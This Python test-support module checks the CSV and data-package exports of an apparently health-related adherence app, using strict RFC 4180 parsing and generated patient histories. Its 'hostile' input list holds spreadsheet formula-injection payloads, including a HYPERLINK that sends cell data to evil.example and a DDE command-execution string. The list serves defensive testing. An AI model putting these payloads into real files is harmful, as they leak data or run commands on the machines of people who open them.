"""Materials for the laws of the exports, and readers of our own: strict where Python's csv module is kind."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from typing import TYPE_CHECKING, Any

from hypothesis import strategies as st

from adherence.worlds import PLAYED, World, rx, told
from selfcare.exports import find
from selfcare.exports.material import Material
from selfcare.facts.codec import to_json
from selfcare.facts.moment import Moment

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

    from selfcare.exports.material import Stream

TEXTS = {
    "daily": rx("{ per_day = 1 }", holds=[("2026-12-01", "2026-12-02")], revision=2),
    "twice": rx("{ per_day = 2 }"),
    "weekly": rx("{ per_week = 3 }", ident="other"),
}


def material(
    world: World,
    until: str = "2026-12-12",
    since: dt.date | None = None,
    last: dt.date | None = None,
    patient: str = "P014",
    lines: Callable[[], Iterator[str]] | None = None,
) -> Material:
    """All of a world, as of noon of a day; `lines` are others than its own."""
    as_of = Moment(world.at(dt.datetime.fromisoformat(f"{until} 12:00")), world.offset)
    history = world.history()
    own = lines or (lambda: (to_json(fact) for fact in history.recorded))
    return Material(lambda: history, (since, last), as_of, patient, own)


def used_up(streams: Sequence[Stream] | Any) -> dict[str, bytes]:
    """The files of a format, whole."""
    found: dict[str, bytes] = {}
    for name, pieces in streams:
        found[name] = found.get(name, b"") + b"".join(pieces)
    return found


def files(made: Material, name: str = "csv") -> dict[str, bytes]:
    """The files of a format, by its name."""
    render = find(name)
    assert render is not None
    return used_up(render(made))


def table(made: dict[str, bytes], name: str) -> list[dict[str, str]]:
    """The rows of one table, as Python's own reader has them."""
    return list(csv.DictReader(io.StringIO(made[f"{name}.csv"].decode("utf-8-sig"), newline="")))


def tables(made: Material) -> dict[str, list[dict[str, str]]]:
    """All tables of a material."""
    written = files(made)
    names = ("alarms", "conditions", "days", "sessions", "sets", "ratings", "measures", "rules")
    return {name: table(written, name) for name in names}


def described(made: dict[str, bytes]) -> dict[str, dict[str, Any]]:
    """The resources of datapackage.json, by name."""
    return {one["name"]: one for one in json.loads(made["datapackage.json"])["resources"]}


_CELL = r'(?:"(?:[^"]|"")*"|[^",\r\n]*)'
_RECORD = re.compile(rf"({_CELL}(?:,{_CELL})*)\r\n")


def rfc4180(data: bytes) -> list[list[str]]:
    """The records by the grammar of RFC 4180, section 2, and nothing else: CRLF after each, quotes round all or none."""
    text = data.removeprefix(b"\xef\xbb\xbf").decode()
    records, at = [], 0
    while at < len(text):
        found = _RECORD.match(text, at)
        assert found, f"no record of RFC 4180: {text[at : at + 80]!r}"
        cells = [
            cell[1:-1].replace('""', '"') if cell.startswith('"') else cell
            for cell in re.findall(rf"(?:^|,)({_CELL})", found[1])
        ]
        records.append(cells)
        at = found.end()
    return records


def as_written(cell: str) -> str:
    """The text of a cell, by the sentence in datapackage.json: the apostrophe that was put before it taken away."""
    return re.sub(r"(^|;)'", r"\1", cell)


# --- what people do, and what they write ---

hostile = st.one_of(
    st.sampled_from(
        [
            "=1+1",
            "+49 170 555 0134",
            "-2 since yesterday",
            "@SUM(A1:A9)",
            '=HYPERLINK("http://evil.example/?"&A1;"click")',
            "=cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            " =1+1",
            "\u00a0=1+1",
            "'=1+1",
            '"=1+1"',
            "a;=1+1;b",
            'a;"=1+1"',
            "x;'y",
            "';=1",
            "\uff1d1+1",
            "\x00=1",
            "\u202e=1",
            "\ufeff=1",
            'five "of" six, or\nso',
            "3/4",
            "007",
            "Zoë 🦵 ok",
            "",
            ",",
            '"',
            ";",
            "'",
        ]
    ),
    st.text(alphabet="=+-@\t\r\n ;,'\"a1\uff1d\u2028\x85\x1b\u200f", max_size=12),
    st.text(max_size=20),
)


@st.composite
def stories(draw: st.DrawFn) -> World:
    """Three weeks of anyone: days played in every way, reported, off, and texts that change."""
    loaded = draw(st.sampled_from(sorted(TEXTS)))
    lines = [f"2026-11-23 07:00 load {loaded}"]
    for number in range(draw(st.integers(0, 20))):
        day = dt.date(2026, 11, 23) + dt.timedelta(days=number)
        for hour in range(9, 9 + draw(st.sampled_from([0, 1, 1, 1, 2, 3]))):
            verb = draw(st.sampled_from([*PLAYED, "done", "done", "reported", "rated 0", "rated -", "rated 7 after"]))
            file = draw(st.sampled_from(["", "", "", " from-file"])) if verb in PLAYED else ""
            lines.append(f"{day} {hour:02}:00 {draw(st.sampled_from([60, 60, -300, 330]))} {verb}{file}")
        if draw(st.sampled_from([False] * 9 + [True])):
            lines.append(f"{day} 22:00 {draw(st.sampled_from(['answers fever', 'answers leg', f'away {day} {day}']))}")
        if draw(st.sampled_from([False] * 9 + [True])):
            lines.append(f"{day} 23:00 load {draw(st.sampled_from(sorted(TEXTS)))}")
    return told("\n".join(lines), TEXTS)


periods = st.tuples(
    st.none() | st.dates(dt.date(2026, 11, 20), dt.date(2026, 12, 8)),
    st.none() | st.dates(dt.date(2026, 12, 8), dt.date(2026, 12, 20)),
)
